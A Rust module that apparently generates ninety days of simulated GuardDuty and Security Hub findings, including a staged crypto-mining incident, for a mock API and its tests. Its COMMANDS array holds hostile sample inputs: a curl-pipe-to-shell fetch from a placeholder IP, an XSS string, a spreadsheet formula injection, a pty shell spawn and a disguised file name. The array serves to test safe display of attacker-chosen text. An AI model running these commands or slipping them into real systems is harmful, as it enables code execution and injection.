//! What happens in the simulated estate: the truth the API tells parts of.

use jiff::{SignedDuration, Timestamp, Zoned};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::Value;

use super::documents;
use super::estate::{Cluster, Estate, Posture, ThreatType, threat_types};

/// Days of history: as long as the services remember.
const DAYS: i64 = 90;

/// Where a threat happened.
#[derive(Debug, Clone)]
pub struct Place {
    pub cluster: String,
    pub cluster_name: String,
    pub family: String,
    pub task: String,
    pub definition: String,
    pub image: String,
}

/// What GuardDuty saw.
#[derive(Debug, Clone)]
pub struct Threat {
    pub name: String,
    pub severity: f64,
    pub description: String,
    pub place: Option<Place>,
    pub process: String,
    pub command: String,
    pub tool: Option<String>,
    /// ARN of the attack sequence it is a signal of.
    pub member_of: Option<String>,
    /// The places of an attack sequence.
    pub sequence: Option<Vec<Place>>,
}

/// What a finding is about.
#[derive(Debug, Clone)]
pub enum Body {
    Threat(Box<Threat>),
    Control { id: String, severity: String, status: &'static str, resource_type: &'static str, resource: String },
    Package { id: String, severity: String, package: String, image: String, digest: String },
}

/// One finding, as both services know it.
#[expect(clippy::struct_excessive_bools, reason = "independent facts")]
#[derive(Debug, Clone)]
pub struct Record {
    pub id: String,
    pub arn: String,
    pub account: String,
    pub region: String,
    pub title: String,
    pub created: Timestamp,
    pub updated: Timestamp,
    pub count: i64,
    pub archived: bool,
    pub sample: bool,
    /// Suppressed findings never reach Security Hub.
    pub in_hub: bool,
    pub workflow: &'static str,
    pub hub_updated: Timestamp,
    pub hub_count: i64,
    pub hub_archived: bool,
    pub body: Body,
}

impl Record {
    /// The detector of the finding's account and Region.
    pub fn detector(&self) -> String {
        detector(&self.account, &self.region)
    }

    fn threat(&self) -> Option<&Threat> {
        if let Body::Threat(threat) = &self.body { Some(threat) } else { None }
    }
}

/// The detector's id: one per account and Region.
pub fn detector(account: &str, region: &str) -> String {
    format!("{:032x}", xxhash_rust::xxh3::xxh3_128(format!("{account}/{region}").as_bytes()))
}

/// The truth about one finding, for tests.
#[expect(clippy::struct_excessive_bools, reason = "independent facts")]
#[derive(Debug, Clone, PartialEq)]
pub struct Known {
    pub arn: String,
    pub account: String,
    pub region: String,
    /// `None` for findings GuardDuty does not have.
    pub threat_type: Option<String>,
    pub family: Option<String>,
    pub count: i64,
    pub created: Timestamp,
    pub archived: bool,
    pub sample: bool,
    pub in_guardduty: bool,
    pub in_securityhub: bool,
}

/// Every finding there is.
#[derive(Debug)]
pub struct World {
    estate: Estate,
    types: Vec<ThreatType>,
    random: ChaCha8Rng,
    records: Vec<Record>,
}

impl World {
    /// Ninety days of history up to `now`.
    pub(super) fn build(seed: u64, now: Timestamp) -> Result<Self, String> {
        let random = ChaCha8Rng::seed_from_u64(seed);
        let mut world = Self { estate: Estate::load()?, types: threat_types(), random, records: Vec::new() };
        for day in (0..DAYS).rev() {
            world.day(now, day);
        }
        world.every_type(now);
        world.mining_incident(now);
        world.posture(&Posture::load()?, now);
        world.records.retain(|record| record.created <= now);
        Ok(world)
    }

    pub(super) fn regions(&self) -> Vec<String> {
        self.estate.regions.clone()
    }

    pub(super) fn home_region(&self) -> &str {
        &self.estate.home_region
    }

    pub(super) fn administrator(&self) -> &str {
        &self.estate.account[0].id
    }

    /// A number below `end`.
    pub(super) fn chance(&mut self, end: u64) -> u64 {
        self.random.random_range(0..end.max(1))
    }

    fn pick(&mut self, length: usize) -> usize {
        self.random.random_range(0..length.max(1))
    }

    fn ago(&mut self, now: Timestamp, day: i64) -> Timestamp {
        let seconds = self.random.random_range(0..86_400);
        now - SignedDuration::from_hours(24 * day) - SignedDuration::from_secs(seconds)
    }

    fn place(&mut self, cluster: &Cluster, at: Timestamp, now: Timestamp) -> Place {
        let family = cluster.families[self.pick(cluster.families.len())].clone();
        self.place_of(cluster, &family, at, now)
    }

    /// Families are deployed about every nine days: the revision tells when.
    fn place_of(&mut self, cluster: &Cluster, family: &str, at: Timestamp, now: Timestamp) -> Place {
        let (account, region) = (&cluster.account, &cluster.region);
        let weight = xxhash_rust::xxh3::xxh3_64(format!("{account}{region}{family}").as_bytes());
        let age = now.duration_since(at).as_hours() / 24;
        let revision = i64::try_from(weight % 60).unwrap_or(0) + 20 - age / 9;
        let digest = xxhash_rust::xxh3::xxh3_128(format!("{family}:{revision}").as_bytes());
        let task: u128 = self.random.random();
        let name = &cluster.name;
        Place {
            cluster: format!("arn:aws:ecs:{region}:{account}:cluster/{name}"),
            cluster_name: name.clone(),
            family: family.to_owned(),
            task: format!("arn:aws:ecs:{region}:{account}:task/{name}/{task:032x}"),
            definition: format!("arn:aws:ecs:{region}:{account}:task-definition/{family}:{revision}"),
            image: format!(
                "{account}.dkr.ecr.{region}.amazonaws.com/{family}:{revision}@sha256:{digest:032x}{digest:032x}"
            ),
        }
    }

    /// An ordinary day: more on working days, scanners at all hours.
    fn day(&mut self, now: Timestamp, day: i64) {
        let noon: Zoned = (now - SignedDuration::from_hours(24 * day)).to_zoned(jiff::tz::TimeZone::UTC);
        let weekend = noon.weekday().to_monday_zero_offset() >= 5;
        let quiet = (14..21).contains(&day);
        let usual = match (weekend, quiet) {
            (_, true) => 7,
            (true, false) => 14,
            (false, false) => 26,
        };
        for _ in 0..usual + self.pick(10) {
            let at = self.ago(now, day);
            self.ordinary(at, now);
        }
    }

    fn ordinary(&mut self, at: Timestamp, now: Timestamp) {
        const USUAL: [(&str, u64); 12] = [
            ("Execution:Runtime/NewBinaryExecuted", 18),
            ("Discovery:Runtime/SuspiciousCommand", 10),
            ("Recon:EC2/PortProbeUnprotectedPort", 12),
            ("Impact:Runtime/SuspiciousDomainRequest.Reputation", 10),
            ("Execution:Runtime/SuspiciousTool", 8),
            ("PrivilegeEscalation:Runtime/ElevationToRoot", 5),
            ("UnauthorizedAccess:Runtime/TorClient", 4),
            ("Execution:Runtime/ReverseShell", 2),
            ("Backdoor:Runtime/C&CActivity.B!DNS", 3),
            ("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 3),
            ("Trojan:Runtime/DropPoint!DNS", 3),
            ("CryptoCurrency:Runtime/BitcoinTool.B!DNS", 2),
        ];
        let mut left = self.chance(USUAL.iter().map(|(_, weight)| weight).sum());
        let name = USUAL.iter().find_map(|(name, weight)| {
            if left < *weight {
                return Some(*name);
            }
            left -= weight;
            None
        });
        self.threat(name.unwrap_or(USUAL[0].0), at, now);
    }

    fn severity_of(&self, name: &str) -> f64 {
        self.types.iter().find(|known| known.name == name).map_or(5.0, |known| known.severity)
    }

    /// Adds a threat of a type somewhere it can happen; gives its place in the list.
    fn threat(&mut self, name: &str, at: Timestamp, now: Timestamp) -> usize {
        let which = self.pick(self.estate.cluster.len());
        let cluster = self.estate.cluster[which].clone();
        let on_ecs = name.contains(":Runtime/") || name.contains(":ECS/") || name.contains(":Container/");
        let place = on_ecs.then(|| self.place(&cluster, at, now));
        self.threat_at(name, &cluster, place, at, now)
    }

    fn threat_at(
        &mut self,
        name: &str,
        cluster: &Cluster,
        place: Option<Place>,
        at: Timestamp,
        now: Timestamp,
    ) -> usize {
        // Attackers choose these texts; whoever shows them must not be impressed.
        const COMMANDS: [&str; 6] = [
            "curl -fsSL http://203.0.113.9/x.sh | sh",
            "sh -c \"<script>alert('xss')</script>\"",
            "=cmd|' /C calc'!A0",
            "nmap -sS 10.0.0.0/16",
            "/tmp/.hidden/\u{202e}gpj.exe --プール=xmr",
            "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
        ];
        const PROCESSES: [&str; 5] = ["sh", "curl", "xmrig", "nmap", "python3"];
        const TOOLS: [&str; 3] = ["Network Scanner", "Backdoor Tool", "Credential Dumper"];
        let whom =
            place.as_ref().map_or_else(|| cluster.account.clone(), |place| format!("task family {}", place.family));
        let what = name.split([':', '/']).next_back().unwrap_or(name).replace(['.', '!'], " ");
        let repeated = self.chance(10) < 3;
        let span = now.duration_since(at).as_secs().max(1);
        let later = if repeated { self.random.random_range(0..span.min(12 * 86_400)) } else { 0 };
        let updated = at + SignedDuration::from_secs(later);
        let count = if repeated { self.random.random_range(2..40) } else { 1 };
        let archived = self.chance(100) < 12 && now.duration_since(at).as_hours() > 72;
        let suppressed = self.chance(100) < 4;
        let sample = self.chance(1000) < 6;
        let workflow = match self.chance(10) {
            0 => "NOTIFIED",
            1 if now.duration_since(at).as_hours() > 48 => "RESOLVED",
            2 if name.contains("PortProbe") => "SUPPRESSED",
            _ => "NEW",
        };
        let id: u128 = self.random.random();
        let id = format!("{id:032x}");
        let detector = detector(&cluster.account, &cluster.region);
        let title = format!("{what} in {whom}.");
        let threat = Threat {
            name: name.to_owned(),
            severity: self.severity_of(name),
            description: format!("GuardDuty saw {what} in {whom}; the details tell the process and where it ran."),
            place,
            process: PROCESSES[self.pick(PROCESSES.len())].to_owned(),
            command: COMMANDS[self.pick(COMMANDS.len())].to_owned(),
            tool: (name == "Execution:Runtime/SuspiciousTool").then(|| TOOLS[self.pick(TOOLS.len())].to_owned()),
            member_of: None,
            sequence: None,
        };
        self.records.push(Record {
            arn: format!("arn:aws:guardduty:{}:{}:detector/{detector}/finding/{id}", cluster.region, cluster.account),
            id,
            account: cluster.account.clone(),
            region: cluster.region.clone(),
            title: if sample { format!("[SAMPLE] {title}") } else { title },
            created: at,
            updated,
            count,
            archived: archived || suppressed,
            sample,
            in_hub: !suppressed,
            workflow,
            hub_updated: updated,
            hub_count: count,
            hub_archived: false,
            body: Body::Threat(Box::new(threat)),
        });
        self.records.len() - 1
    }

    /// Every type in service happened at least once.
    fn every_type(&mut self, now: Timestamp) {
        for index in 0..self.types.len() {
            let name = self.types[index].name.clone();
            let day = i64::try_from(self.chance(80)).unwrap_or(0) + 3;
            let at = self.ago(now, day);
            let index = self.threat(&name, at, now);
            // One that nobody archived or marked as a sample, so that it shows.
            let record = &mut self.records[index];
            (record.archived, record.sample, record.in_hub) = (false, false, true);
            record.title = record.title.trim_start_matches("[SAMPLE] ").to_owned();
        }
    }

    /// Five days ago somebody mined on the batch cluster: first steps, then the miner, then GuardDuty's conclusion.
    fn mining_incident(&mut self, now: Timestamp) {
        let Some(cluster) = self.estate.cluster.iter().find(|cluster| cluster.name == "batch").cloned() else { return };
        let begun = now - SignedDuration::from_hours(5 * 24 + 3);
        let steps = [
            ("Execution:Runtime/SuspiciousCommand", 0),
            ("Execution:Runtime/NewBinaryExecuted", 4),
            ("PrivilegeEscalation:Runtime/ElevationToRoot", 9),
            ("Impact:Runtime/CryptoMinerExecuted", 15),
            ("CryptoCurrency:Runtime/BitcoinTool.B!DNS", 17),
            ("Impact:Runtime/BitcoinDomainRequest.Reputation", 21),
        ];
        let mut members = Vec::new();
        let mut places = Vec::new();
        for family in ["model-trainer", "etl-clicks"] {
            for (name, minutes) in steps {
                let at = begun + SignedDuration::from_mins(minutes);
                let place = self.place_of(&cluster, family, at, now);
                places.push(place.clone());
                members.push(self.threat_at(name, &cluster, Some(place), at, now));
            }
        }
        let at = begun + SignedDuration::from_mins(50);
        let whole = self.threat_at("AttackSequence:ECS/CompromisedCluster", &cluster, None, at, now);
        let arn = self.records[whole].arn.clone();
        for index in members.into_iter().chain([whole]) {
            let record = &mut self.records[index];
            (record.archived, record.sample, record.in_hub, record.workflow) = (false, false, true, "NEW");
            record.title = record.title.trim_start_matches("[SAMPLE] ").to_owned();
            if let Body::Threat(threat) = &mut record.body {
                if index == whole {
                    threat.sequence = Some(places.clone());
                } else {
                    threat.member_of = Some(arn.clone());
                    record.count = record.count.max(12);
                }
            }
        }
    }

    /// Configuration and packages: seen by Security Hub alone.
    fn posture(&mut self, posture: &Posture, now: Timestamp) {
        for cluster in self.estate.cluster.clone() {
            for family in &cluster.families {
                let place = self.place_of(&cluster, family, now, now);
                for control in &posture.control {
                    let status = if self.chance(10) < 3 { "FAILED" } else { "PASSED" };
                    let (id, severity) = (control.id.clone(), control.severity.clone());
                    let resource = place.definition.clone();
                    let body = Body::Control { id, severity, status, resource_type: "AwsEcsTaskDefinition", resource };
                    self.hub_only(&cluster.account, &cluster.region, &control.title, body, now);
                }
                for weakness in &posture.vulnerability {
                    if self.chance(10) < 4 {
                        let digest = place.image.split_once('@').map_or("", |(_, digest)| digest).to_owned();
                        let (id, severity) = (weakness.id.clone(), weakness.severity.clone());
                        let title = format!("{id} - {}", weakness.package);
                        let package = weakness.package.clone();
                        let body = Body::Package { id, severity, package, image: family.clone(), digest };
                        self.hub_only(&cluster.account, &cluster.region, &title, body, now);
                    }
                }
            }
        }
        for account in self.estate.account.clone() {
            for region in self.estate.regions.clone() {
                for control in &posture.account_control {
                    let status = if self.chance(10) < 5 { "FAILED" } else { "PASSED" };
                    let resource_type = match control.resource.as_str() {
                        "AwsEc2SecurityGroup" => "AwsEc2SecurityGroup",
                        "AwsS3Bucket" => "AwsS3Bucket",
                        _ => "AwsAccount",
                    };
                    let resource = format!("arn:aws:config:{region}:{}:{}/{}", account.id, control.id, account.name);
                    let (id, severity) = (control.id.clone(), control.severity.clone());
                    let body = Body::Control { id, severity, status, resource_type, resource };
                    self.hub_only(&account.id, &region, &control.title, body, now);
                }
            }
        }
    }

    fn hub_only(&mut self, account: &str, region: &str, title: &str, body: Body, now: Timestamp) {
        let day = i64::try_from(self.chance(85)).unwrap_or(0) + 1;
        let created = self.ago(now, day);
        let hours = i64::try_from(self.chance(24)).unwrap_or(0);
        let updated = (now - SignedDuration::from_hours(hours)).max(created);
        let id: u128 = self.random.random();
        let id = format!("{id:032x}");
        let arn = match &body {
            Body::Control { id: control, .. } => {
                format!("arn:aws:securityhub:{region}:{account}:security-control/{control}/finding/{id}")
            }
            _ => format!("arn:aws:inspector2:{region}:{account}:finding/{id}"),
        };
        self.records.push(Record {
            id,
            arn,
            account: account.to_owned(),
            region: region.to_owned(),
            title: title.to_owned(),
            created,
            updated,
            count: 1,
            archived: false,
            sample: false,
            in_hub: true,
            workflow: "NEW",
            hub_updated: updated,
            hub_count: 1,
            hub_archived: false,
            body,
        });
    }

    /// Something new: a threat, a repetition, a decision.
    pub(super) fn happen(&mut self, now: Timestamp) {
        let index = self.pick(self.records.len());
        let threats: Vec<usize> = (0..self.records.len()).filter(|at| self.records[*at].threat().is_some()).collect();
        let threat = threats[self.pick(threats.len())];
        match self.chance(10) {
            0..4 => self.ordinary(now, now),
            4..8 => self.recur_at(threat, now),
            8 => {
                let record = &mut self.records[threat];
                (record.archived, record.updated) = (true, now);
            }
            // Decisions in Security Hub do not move UpdatedAt.
            _ => self.records[index].workflow = "RESOLVED",
        }
    }

    fn recur_at(&mut self, index: usize, now: Timestamp) {
        let more = i64::try_from(self.chance(5)).unwrap_or(0) + 1;
        let record = &mut self.records[index];
        record.count += more;
        record.updated = now;
        record.hub_count = record.count;
        record.hub_updated = now;
    }

    fn position(&self, arn: &str) -> Option<usize> {
        self.records.iter().position(|record| record.arn == arn)
    }

    /// The finding happens again. False if it is not known.
    pub fn recur(&mut self, arn: &str, now: Timestamp) -> bool {
        self.position(arn).map(|index| self.recur_at(index, now)).is_some()
    }

    /// Somebody archives it in GuardDuty, which does not move `updatedAt` here. False if it is not known.
    pub fn archive(&mut self, arn: &str) -> bool {
        self.position(arn).map(|index| self.records[index].archived = true).is_some()
    }

    /// Somebody sets its workflow in Security Hub, which does not move `UpdatedAt`. False if it is not known.
    pub fn set_workflow(&mut self, arn: &str, status: &'static str) -> bool {
        self.position(arn).map(|index| self.records[index].workflow = status).is_some()
    }

    /// A new threat of a type. Gives its ARN.
    pub fn add(&mut self, name: &str, now: Timestamp) -> String {
        let index = self.threat(name, now, now);
        let record = &mut self.records[index];
        (record.archived, record.sample, record.in_hub) = (false, false, true);
        record.arn.clone()
    }

    /// The truth.
    pub fn findings(&self) -> Vec<Known> {
        let known = |record: &Record| Known {
            arn: record.arn.clone(),
            account: record.account.clone(),
            region: record.region.clone(),
            threat_type: record.threat().map(|threat| threat.name.clone()),
            family: record.threat().and_then(|threat| threat.place.as_ref()).map(|place| place.family.clone()),
            count: record.count,
            created: record.created,
            archived: record.archived,
            sample: record.sample,
            in_guardduty: record.threat().is_some(),
            in_securityhub: record.in_hub,
        };
        self.records.iter().map(known).collect()
    }

    /// Ids of GuardDuty's findings in a Region, of one account or of all, updated since.
    pub(super) fn guardduty_ids(&self, account: Option<&str>, region: &str, since: i64) -> Vec<&str> {
        let mut found: Vec<&Record> = self
            .records
            .iter()
            .filter(|record| record.threat().is_some() && record.region == region)
            .filter(|record| account.is_none_or(|account| account == record.account))
            .filter(|record| record.updated.as_millisecond() >= since)
            .collect();
        found.sort_by(|one, two| one.updated.cmp(&two.updated).then(one.id.cmp(&two.id)));
        found.into_iter().map(|record| record.id.as_str()).collect()
    }

    /// Documents of GuardDuty findings; unknown ids are left out, as the service does.
    pub(super) fn guardduty_documents(&self, ids: &[String]) -> Vec<Value> {
        let record = |id: &String| self.records.iter().find(|record| record.id == *id);
        let document = |record: &Record| record.threat().map(|threat| documents::guardduty(record, threat));
        ids.iter().filter_map(record).filter_map(document).collect()
    }

    /// Security Hub's findings updated in a span: of a Region, or of all for the home Region.
    pub(super) fn hub_findings(
        &self,
        account: Option<&str>,
        region: Option<&str>,
        since: Timestamp,
        until: Timestamp,
    ) -> Vec<&Record> {
        let mut found: Vec<&Record> = self
            .records
            .iter()
            .filter(|record| record.in_hub && region.is_none_or(|region| region == record.region))
            .filter(|record| account.is_none_or(|account| account == record.account))
            .filter(|record| record.hub_updated >= since && record.hub_updated < until)
            .collect();
        found.sort_by(|one, two| one.hub_updated.cmp(&two.hub_updated).then(one.id.cmp(&two.id)));
        found
    }
}
